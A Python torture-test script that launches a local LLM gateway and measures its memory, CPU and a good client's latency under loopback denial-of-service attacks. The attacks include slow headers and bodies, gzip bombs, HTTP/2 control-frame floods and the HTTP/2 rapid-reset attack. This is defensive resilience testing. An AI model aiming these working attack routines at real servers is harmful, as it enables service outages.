#!/usr/bin/env python3
"""Attacks a gateway on loopback while a good client uses it, and shows what that took.

For each attack a gateway of its own is started in front of simulated model servers, a good client sends 50 requests a
second from another address, and the attackers do their worst for some seconds. The table has the gateway's memory before,
at most and after, how many cores it took, and the good client's latency and failures. An attack that makes a good request
fail, takes more memory than it may or leaves it taken, or is not cut where a limit says so, fails the run. Latencies are shown and not judged:
attackers, client and servers share the machine's cores.
"""

import argparse
import json
import multiprocessing
import os
import random
import resource
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

ATTACKER = "127.0.0.2"
MIB = 1 << 20
MODEL = "m"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# How long it may take until all streams are open.
OPEN_SECONDS = 60
# Of zeros that gzip makes a thousandth of.
BOMB_BYTES = 48 * MIB

DOCUMENT = """
apiVersion: penstock.dev/v1alpha1
kind: RoutingConfig
admin: {{address: "127.0.0.1:{admin}"}}
shutdown: {{linger: 0s}}
limits: {limits}
listeners:
  - {{name: http, address: "127.0.0.1:{http}"}}
  - {{name: https, address: "127.0.0.1:{https}", protocol: HTTPS, tls: {{certificates: [{{certificateFile: {cert}, privateKeyFile: {key}}}]}}}}
routes:
  - name: all
    rules:
      - models: [{model}]
        retry: {{attempts: 5, statuses: [429, 503], budgetPercent: 100, minRetriesPerSecond: 1000}}
        targets: [{{pool: servers}}]
pools:
  - name: servers
    endpoints: [{endpoints}]
"""


def say(text):
    print(f"torture: {text}", flush=True)


def free_ports(count):
    sockets = [socket.socket() for _ in range(count)]
    for one in sockets:
        one.bind(("127.0.0.1", 0))
    ports = [one.getsockname()[1] for one in sockets]
    for one in sockets:
        one.close()
    return ports


def wait_for(what, condition, seconds=30):
    end = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > end:
            raise SystemExit(f"torture: {what} did not happen within {seconds} s")
        time.sleep(0.05)


def is_open(port):
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) == 0


class Servers:
    """Simulated model servers, each a process of its own."""

    def __init__(self, bin, count, flags=()):
        self.bin, self.flags, self.ports = bin, list(flags), free_ports(count)
        self.processes = [self.start(port) for port in self.ports]
        for port in self.ports:
            wait_for("a model server's start", lambda port=port: is_open(port))

    def start(self, port):
        command = [f"{self.bin}/penstock-sim", "--model", MODEL, "--host", "127.0.0.1", "--port", str(port),
                   "--max-model-len", "1000000000", *self.flags]
        return subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def stop(self):
        for process in self.processes:
            process.send_signal(signal.SIGCONT)
            process.kill()
            process.wait()


class Gateway:
    """The gateway under attack."""

    def __init__(self, bin, work, servers, limits=None):
        self.http, self.https, self.admin = free_ports(3)
        self.file = os.path.join(work, f"gateway-{self.http}.yaml")
        self.servers, self.limits, self.work = servers, limits or {}, work
        self.write()
        self.log = open(os.path.join(work, f"gateway-{self.http}.log"), "w")
        command = [f"{bin}/penstock", "serve", "--config", self.file]
        self.process = subprocess.Popen(command, stdout=self.log, stderr=self.log)
        wait_for("the gateway's start", lambda: is_open(self.http) and is_open(self.admin))
        self.peak = 0
        self.watching = True
        self.watcher = threading.Thread(target=self.watch, daemon=True)
        self.watcher.start()

    def write(self, ports=None):
        endpoints = ", ".join(f'{{address: "127.0.0.1:{port}"}}' for port in ports or self.servers.ports)
        text = DOCUMENT.format(http=self.http, https=self.https, admin=self.admin, limits=json.dumps(self.limits),
                               cert=f"{self.work}/tls.crt", key=f"{self.work}/tls.key", model=MODEL, endpoints=endpoints)
        with open(self.file + ".new", "w") as out:
            out.write(text)
        os.replace(self.file + ".new", self.file)

    def rss(self):
        with open(f"/proc/{self.process.pid}/status") as status:
            return next(int(line.split()[1]) * 1024 for line in status if line.startswith("VmRSS"))

    def cpu_seconds(self):
        """Of processor time, of all threads."""
        with open(f"/proc/{self.process.pid}/stat") as stat:
            fields = stat.read().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def watch(self):
        while self.watching:
            try:
                self.peak = max(self.peak, self.rss())
            except (OSError, StopIteration):
                return
            time.sleep(0.02)

    def metrics(self, name):
        """The samples of a metric, by their labels."""
        with urllib.request.urlopen(f"http://127.0.0.1:{self.admin}/metrics", timeout=10) as page:
            lines = page.read().decode().splitlines()
        samples = (line.rsplit(" ", 1) for line in lines if line.startswith(name))
        return {labels.removeprefix(name): float(value) for labels, value in samples}

    def hits(self, limit):
        return sum(value for labels, value in self.metrics("penstock_limit_hits_total").items() if f'"{limit}"' in labels)

    def serves(self, requests):
        """Whether so many requests are being served. While thousands begin, the page can be late."""
        try:
            return sum(self.metrics("penstock_requests_in_flight").values()) >= requests
        except OSError:
            return False

    def stop(self):
        """Ends it, and returns how long its drain took, in seconds."""
        self.watching = False
        begun = time.monotonic()
        self.process.terminate()
        try:
            self.process.wait(60)
        except subprocess.TimeoutExpired:
            self.process.kill()
        self.log.close()
        return time.monotonic() - begun


class Good:
    """A client that behaves, at a steady rate whatever happens."""

    def __init__(self, bin, work, gateway, seconds, rate=50, output=5):
        self.report = os.path.join(work, f"good-{gateway.http}.json")
        command = [f"{bin}/penstock-perf", "load", f"http://127.0.0.1:{gateway.http}", "--model", MODEL,
                   "--rate", str(rate), "--duration", f"{seconds}s", "--warmup", "0s", "--timeout", "30s", "--threads", "1",
                   "--input-tokens", "100", "--output-tokens", str(output), "--json", self.report]
        self.process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def result(self):
        self.process.wait()
        with open(self.report) as report:
            return json.load(report)["results"]


# --- attacks: each runs in a process of its own until `stop` is set ------------------------------------------------


def connect(port, tls=None, alpn=None):
    plain = socket.socket()
    plain.bind((ATTACKER, 0))
    plain.settimeout(5)
    plain.connect(("127.0.0.1", port))
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        if alpn:
            context.set_alpn_protocols(alpn)
        return context.wrap_socket(plain, server_hostname="llm.example")
    return plain


def is_closed(one):
    """Whether the other end has closed; what it sent is read and dropped."""
    try:
        one.setblocking(False)
        while True:
            if not one.recv(65536):
                return True
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


def in_threads(count, work):
    """Does the same in so many threads, to its end."""
    threads = [threading.Thread(target=work) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def hoarding(gateway, stop):
    """49 bodies that are never finished, as large as they may be, and then trickle."""
    head = (f"POST /v1/chat/completions HTTP/1.1\r\nhost: llm\r\ncontent-type: application/json\r\n"
            f"content-length: {63 * MIB}\r\n\r\n" '{"model":"' + MODEL + '","messages":[{"role":"user","content":"').encode()
    piece = b"x" * (256 << 10)
    held = []
    while not stop.is_set():
        held = [one for one in held if not is_closed(one)]
        while len(held) < 49 and not stop.is_set():
            one = connect(gateway["http"])
            try:
                one.settimeout(0.5)
                one.sendall(head)
                for _ in range(84):
                    one.sendall(piece)
                held.append(one)
            except OSError:
                one.close()
                break
        for one in held:
            try:
                one.setblocking(False)
                one.send(b"x" * 16)
            except OSError:
                pass
        stop.wait(0.3)


def bombs(gateway, stop):
    """32 connections that send compressed bodies a thousand times as large as they look."""
    import gzip
    body = gzip.compress(b'{"model":"' + MODEL.encode() + b'","messages":[{"role":"user","content":"' + b" " * BOMB_BYTES, 9)
    request = (b"POST /v1/chat/completions HTTP/1.1\r\nhost: llm\r\ncontent-type: application/json\r\n"
               b"content-encoding: gzip\r\ncontent-length: " + str(len(body)).encode() + b"\r\n\r\n" + body)

    def one():
        while not stop.is_set():
            try:
                wire = connect(gateway["http"])
                wire.settimeout(30)
                wire.sendall(request)
                wire.recv(65536)
                wire.close()
            except OSError:
                pass
            stop.wait(0.1)

    in_threads(32, one)


def admin_uploads(gateway, stop):
    """30 uploads of 64 MiB to /debug/pick, and 500 that stall."""
    head = f"POST /debug/pick HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: {64 * MIB}\r\n\r\n".encode()
    piece = b" " * MIB

    def upload():
        while not stop.is_set():
            try:
                wire = connect(gateway["admin"])
                wire.sendall(head)
                for _ in range(64):
                    wire.sendall(piece)
                wire.recv(65536)
                wire.close()
            except OSError:
                stop.wait(0.1)

    stalled = []
    threads = [threading.Thread(target=upload) for _ in range(30)]
    [thread.start() for thread in threads]
    while not stop.is_set():
        stalled = [wire for wire in stalled if not is_closed(wire)]
        while len(stalled) < 500 and not stop.is_set():
            try:
                wire = connect(gateway["admin"])
                wire.sendall(head + b"{")
                stalled.append(wire)
            except OSError:
                break
        stop.wait(0.5)
    [thread.join() for thread in threads]


def silence(gateway, stop):
    """500 connections that shake hands, agree on HTTP/2 and say nothing."""
    held = []
    while not stop.is_set():
        while len(held) < 500 and not stop.is_set():
            try:
                held.append(connect(gateway["https"], tls=True, alpn=["h2"]))
            except OSError:
                break
        stop.wait(0.5)
    gateway["closed"].value = sum(is_closed(one) for one in held)


def flood(gateway, stop, frames):
    """Four HTTP/2 connections that send these frames as fast as they are taken."""
    many = frames * max(1, 65536 // len(frames))

    def one():
        while not stop.is_set():
            try:
                wire = connect(gateway["http"])
                wire.settimeout(1)
                wire.sendall(PREFACE + b"\0\0\0\4\0\0\0\0\0")
                threading.Thread(target=drop_answers, args=(wire,), daemon=True).start()
                while not stop.is_set():
                    wire.sendall(many)
            except OSError:
                stop.wait(0.02)

    def drop_answers(wire):
        try:
            while wire.recv(1 << 20):
                pass
        except OSError:
            pass

    in_threads(4, one)


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def pings(gateway, stop):
    """PINGs without end."""
    flood(gateway, stop, frame(6, 0, 0, b"penstock"))


def settings(gateway, stop):
    """SETTINGS without end."""
    flood(gateway, stop, frame(4, 0, 0, b""))


def unknown_frames(gateway, stop):
    """Frames of no known type without end."""
    flood(gateway, stop, frame(0xfe, 0, 0, b"12345678"))


def resets(gateway, stop):
    """Requests that are cancelled as soon as they are sent (CVE-2023-44487)."""
    head = b"\x83\x86\x84\x41\x03llm"

    def one():
        while not stop.is_set():
            try:
                wire = connect(gateway["http"])
                wire.settimeout(1)
                wire.sendall(PREFACE + b"\0\0\0\4\0\0\0\0\0")
                for stream in range(1, 2_000_000, 2):
                    wire.sendall(frame(1, 5, stream, head) + frame(3, 0, stream, b"\0\0\0\x08"))
                    if stop.is_set():
                        return
            except OSError:
                stop.wait(0.02)

    in_threads(4, one)


def slow_heads(gateway, stop):
    """2,000 connections that send a header every now and then, and never the last."""
    held = []
    while not stop.is_set():
        held = [one for one in held if not is_closed(one)]
        while len(held) < 2000 and not stop.is_set():
            try:
                one = connect(gateway["http"])
                one.sendall(b"GET / HTTP/1.1\r\nhost: llm\r\n")
                held.append(one)
            except OSError:
                break
        for one in held:
            try:
                one.send(b"x: y\r\n")
            except OSError:
                pass
        stop.wait(1)


def stream_count():
    """10,000, or as many as there may be sockets for: each is two of the gateway's."""
    return min(10_000, (resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 1000) // 2)


def many_streams(gateway, stop):
    """10,000 clients, or as many as there may be sockets for, that each read a stream as long as the attack."""
    seconds, streams = gateway["seconds"], stream_count()
    command = [f"{gateway['bin']}/penstock-perf", "load", f"http://127.0.0.1:{gateway['http']}", "--model", MODEL, "--stream",
               "--concurrency", str(streams), "--duration", f"{seconds + OPEN_SECONDS}s", "--warmup", "0s",
               "--timeout", "600s", "--input-tokens", "20", "--output-tokens", "100", "--threads", "1", "--cut"]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    stop.wait()
    process.kill()
    process.wait()


def nothing(_gateway, stop):
    """Nobody does anything."""
    stop.wait()


# Memory in MiB over what the gateway had before: what bodies may take (of 1 GiB in `hoarding`: 256 MiB are allowed here),
# or what so many connections need. `kept` is what may still be taken of it some seconds after the last connection ended.
ATTACKS = {
    "nothing": (nothing, dict(memory=40)),
    "hoarding": (hoarding, dict(memory=340, limits={"bodiesInFlightBytes": "256MiB"}, hit="limits.bodiesInFlightBytes")),
    "bombs": (bombs, dict(memory=200, hit="limits.decodedBodyRatio")),
    "admin uploads": (admin_uploads, dict(memory=60, hit="admin.connections")),
    "silence": (silence, dict(memory=80, limits={"headerTimeout": "3s"}, hit="limits.headerTimeout", closes=True)),
    "pings": (pings, dict(memory=60, hit="limits.http2ControlFrames")),
    "settings": (settings, dict(memory=60, hit="limits.http2ControlFrames")),
    "unknown frames": (unknown_frames, dict(memory=60, hit="limits.http2ControlFrames")),
    "resets": (resets, dict(memory=120)),
    "slow heads": (slow_heads, dict(memory=100, limits={"headerTimeout": "3s"}, hit="limits.headerTimeout")),
    # Almost silent, and all open before the good client starts: what is shown is what open streams cost, and not ten
    # thousand tokens a second that servers make and clients read, nor ten thousand clients that connect at once.
    "10,000 streams": (many_streams, dict(memory=370, kept=40, seconds=20, opens=stream_count,
                                          servers=["--max-num-seqs", "20000", "--max-waiting-queue-length", "20000",
                                                   "--inter-token-latency", "10000", "--kv-cache-size", "10000000"])),
}


def attack(options, work, name):
    """Runs one attack. Returns its row and what is wrong."""
    function, plan = ATTACKS[name]
    seconds = plan.get("seconds", options.seconds)
    servers = Servers(options.bin, 2, plan.get("servers", ["--max-num-seqs", "64"]))
    gateway = Gateway(options.bin, work, servers, plan.get("limits"))
    time.sleep(1)
    before, gateway.peak = gateway.rss(), 0
    stop, closed = multiprocessing.Event(), multiprocessing.Value("i", 0)
    facts = dict(http=gateway.http, https=gateway.https, admin=gateway.admin, bin=options.bin, seconds=seconds, closed=closed)
    attacker = multiprocessing.Process(target=function, args=(facts, stop))
    attacker.start()
    time.sleep(1)
    if "opens" in plan:
        wait_for("all streams", lambda: gateway.serves(plan["opens"]()), OPEN_SECONDS)
    # A stream's request waits for nothing, but its second token is slow to come.
    output = 1 if "servers" in plan else 5
    used = gateway.cpu_seconds()
    result = Good(options.bin, work, gateway, seconds, output=output).result()
    cpu = (gateway.cpu_seconds() - used) / seconds
    hits = gateway.hits(plan["hit"]) if "hit" in plan else None
    if plan.get("closes"):
        time.sleep(4)
    stop.set()
    attacker.join()
    peak = gateway.peak
    time.sleep(options.settle)
    after = gateway.rss()
    drain = gateway.stop()
    servers.stop()

    wrong = []
    if result["failed"] or not result["completed"]:
        wrong.append(f"{result['failed']} of {result['failed'] + result['completed']} good requests failed: {result['errors']}")
    if peak - before > plan["memory"] * MIB:
        wrong.append(f"{(peak - before) // MIB} MiB more memory, and {plan['memory']} are allowed")
    if after - before > plan.get("kept", after) * MIB:
        wrong.append(f"{(after - before) // MIB} MiB more memory after it was over, and {plan['kept']} are allowed")
    if hits == 0:
        wrong.append(f"{plan['hit']} was never hit")
    if plan.get("closes") and closed.value < 400:
        wrong.append(f"only {closed.value} of 500 silent connections were closed")
    if drain > 8:
        wrong.append(f"the drain took {drain:.0f} s with nothing to wait for")
    latency = result["e2e"]
    row = dict(attack=name, before=before, peak=peak, after=after, cpu=cpu, p50=latency["p50"], p99=latency["p99"],
               max=latency["max"], completed=result["completed"], failed=result["failed"], hits=hits, drain=drain)
    return row, wrong


def chaos(options, work):
    """300 requests a second while model servers are killed, frozen and replaced, and the document is written anew."""
    servers = Servers(options.bin, 4, ["--max-num-seqs", "256"])
    gateway = Gateway(options.bin, work, servers)
    time.sleep(1)
    before, gateway.peak = gateway.rss(), 0
    used = gateway.cpu_seconds()
    good = Good(options.bin, work, gateway, options.chaos, rate=300)
    chance = random.Random(1)
    done = dict(kill=0, freeze=0, reload=0)
    end = time.monotonic() + options.chaos - 3
    while time.monotonic() < end:
        what = chance.choice(list(done))
        victim = chance.randrange(len(servers.ports))
        process, port = servers.processes[victim], servers.ports[victim]
        if what == "kill":
            process.kill()
            process.wait()
            time.sleep(chance.uniform(0, 0.5))
            servers.processes[victim] = servers.start(port)
            wait_for("a model server's start", lambda: is_open(port))
        elif what == "freeze":
            process.send_signal(signal.SIGSTOP)
            time.sleep(chance.uniform(0.05, 0.5))
            process.send_signal(signal.SIGCONT)
        else:
            # In another order, so that it is another document.
            order = servers.ports
            gateway.write(chance.sample(order, len(order)))
        done[what] += 1
        time.sleep(chance.uniform(0.2, 0.8))
    result = good.result()
    cpu = (gateway.cpu_seconds() - used) / options.chaos
    peak, after = gateway.peak, gateway.rss()
    drain = gateway.stop()
    servers.stop()
    wrong = []
    if result["failed"]:
        wrong.append(f"{result['failed']} of {result['failed'] + result['completed']} requests failed: {result['errors']}")
    latency = result["e2e"]
    name = f"chaos ({done['kill']} kills, {done['freeze']} freezes, {done['reload']} reloads)"
    return dict(attack=name, before=before, peak=peak, after=after, cpu=cpu, p50=latency["p50"], p99=latency["p99"],
                max=latency["max"], completed=result["completed"], failed=result["failed"], hits=None, drain=drain), wrong


def h2spec(options, work):
    """An HTTP/2 client that tries every rule of RFC 9113 and 7541, over TLS: without, a broken preface is HTTP/1."""
    servers = Servers(options.bin, 1)
    gateway = Gateway(options.bin, work, servers)
    command = [options.h2spec, "-h", "127.0.0.1", "-p", str(gateway.https), "-t", "-k", "-o", "5"]
    ran = subprocess.run(command, stdout=subprocess.PIPE, text=True)
    summary = [line for line in ran.stdout.splitlines() if " tests, " in line]
    say(f"h2spec: {summary[-1] if summary else 'no summary'}")
    gateway.stop()
    servers.stop()
    return [] if ran.returncode == 0 else [ran.stdout.partition("Failures:")[2] or ran.stdout[-2000:]]


def certificate(work):
    command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2",
               "-subj", "/CN=llm.example", "-addext", "subjectAltName=DNS:llm.example",
               "-keyout", f"{work}/tls.key", "-out", f"{work}/tls.crt"]
    subprocess.run(command, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def table(rows):
    """The rows as a table of Markdown."""
    lines = ["| attack | MiB before | at most | after | cores | good p50 ms | p99 | max | requests | failed | cut | drain s |",
             "|---|" + "---:|" * 11]
    for row in rows:
        cut = "" if row["hits"] is None else f"{row['hits']:.0f}"
        lines.append(f"| {row['attack']} | {row['before'] / MIB:.0f} | {row['peak'] / MIB:.0f} | {row['after'] / MIB:.0f} "
                     f"| {row['cpu']:.2f} | {row['p50']:.1f} | {row['p99']:.1f} | {row['max']:.0f} "
                     f"| {row['completed']} | {row['failed']} | {cut} | {row['drain']:.1f} |")
    return "\n".join(lines)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attacks", nargs="*", help=f"{', '.join(ATTACKS)}, chaos, h2spec; without: all")
    parser.add_argument("--bin", required=True, help="folder of penstock, penstock-sim and penstock-perf")
    parser.add_argument("--h2spec", required=True, help="path of h2spec")
    parser.add_argument("--seconds", type=int, default=10, help="length of an attack")
    parser.add_argument("--settle", type=int, default=12, help="seconds until memory is looked at again")
    parser.add_argument("--chaos", type=int, default=60, help="length of the chaos")
    parser.add_argument("--json", default="target/torture.json", help="where the rows go")
    options = parser.parse_args()
    known = [*ATTACKS, "chaos", "h2spec"]
    for name in options.attacks:
        if name not in known:
            parser.error(f"{name} is none of {', '.join(known)}")
    rows, faults = [], []
    with tempfile.TemporaryDirectory(prefix="penstock-torture.") as work:
        certificate(work)
        for name in options.attacks or known:
            say(f"{name}: {(ATTACKS[name][0] if name in ATTACKS else dict(chaos=chaos, h2spec=h2spec)[name]).__doc__}")
            if name == "h2spec":
                wrong = h2spec(options, work)
            else:
                row, wrong = chaos(options, work) if name == "chaos" else attack(options, work, name)
                rows.append(row)
            faults += [f"{name}: {fault}" for fault in wrong]
            for fault in wrong:
                say(f"WRONG: {fault}")
    print(table(rows))
    with open(options.json, "w") as out:
        json.dump(rows, out, indent=1)
    if faults:
        sys.exit("torture: " + "\ntorture: ".join(faults))
    say("the good client noticed nothing that it should not have")


if __name__ == "__main__":
    main()
